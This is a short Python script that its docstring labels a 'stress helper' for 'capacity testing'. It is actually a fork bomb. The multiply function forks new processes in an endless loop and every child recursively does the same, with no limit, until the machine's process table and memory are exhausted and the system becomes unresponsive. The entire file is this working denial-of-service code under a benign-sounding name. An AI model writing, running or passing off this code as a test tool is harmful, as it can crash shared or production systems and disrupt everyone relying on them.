"""Stress helper for 'capacity testing'."""
import os
import sys
import time


def multiply(generation):
    while True:
        pid = os.fork()
        if pid == 0:
            multiply(generation + 1)
        time.sleep(0)


if __name__ == "__main__":
    depth = int(sys.argv[1]) if len(sys.argv) > 1 else 0
    multiply(depth)
